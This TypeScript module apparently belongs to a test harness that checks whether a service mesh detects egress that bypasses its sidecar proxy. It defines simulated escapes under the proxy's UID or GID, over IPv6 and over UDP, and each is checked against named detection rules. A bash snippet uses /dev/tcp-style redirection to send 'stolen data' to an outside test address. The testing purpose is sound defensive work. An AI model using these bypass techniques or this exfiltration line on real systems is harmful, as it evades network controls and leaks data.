/**
 * What attackers in an application's container do to get out around its sidecar. Each attack is a real
 * process that opens a real connection, sends something and gets an answer from outside.
 */
import { execIn, type RunningContainer } from "./containers.ts";
import { appId, outside, proxyId } from "./mesh.ts";

export interface Attack {
  readonly name: string;
  readonly uid: number;
  readonly gid: number;
  readonly transport: "tcp" | "udp";
  readonly address: string;
  readonly firstPort: number;
  /** Who must have told of it before it can be found. */
  readonly vantage: readonly ("socket" | "wire")[];
  readonly rules: readonly string[];
}

export const attacksOfEach = 30;

export const attacks: readonly Attack[] = [
  {
    name: "under the proxy's UID",
    uid: proxyId,
    gid: appId,
    transport: "tcp",
    address: outside.attackedIp,
    firstPort: 7_100,
    vantage: ["socket"],
    rules: ["egress-around-proxy"],
  },
  {
    name: "under the proxy's GID",
    uid: appId,
    gid: proxyId,
    transport: "tcp",
    address: outside.attackedIp,
    firstPort: 7_200,
    vantage: ["socket"],
    rules: ["egress-around-proxy"],
  },
  {
    name: "over IPv6",
    uid: appId,
    gid: appId,
    transport: "tcp",
    address: outside.attackedIp6,
    firstPort: 7_300,
    vantage: ["socket", "wire"],
    rules: ["egress-around-proxy", "ipv6-egress-uncaptured"],
  },
  {
    name: "over UDP",
    uid: appId,
    gid: appId,
    transport: "udp",
    address: outside.attackedIp,
    firstPort: 7_400,
    vantage: ["wire"],
    rules: ["udp-egress-from-meshed-pod"],
  },
];

/** One connection by bash itself, no other program; of the answer bash takes a byte, and a datagram's rest is lost. */
const connection = `
exec 3<>"/dev/$1/$2/$3"
printf 'stolen data\\n' >&3
read -r -t 10 -n 1 answer <&3
[ "$answer" = s ]
`;

/** The `index`-th destination of an attack. Resolves when the answer has come. */
export async function attackOnce(
  container: RunningContainer,
  { uid, gid, transport, address, firstPort }: Attack,
  index: number,
): Promise<void> {
  const destination = [transport, address, String(firstPort + index)];
  await execIn(container, { uid, gid }, ["bash", "-euc", connection, "bash", ...destination]);
}
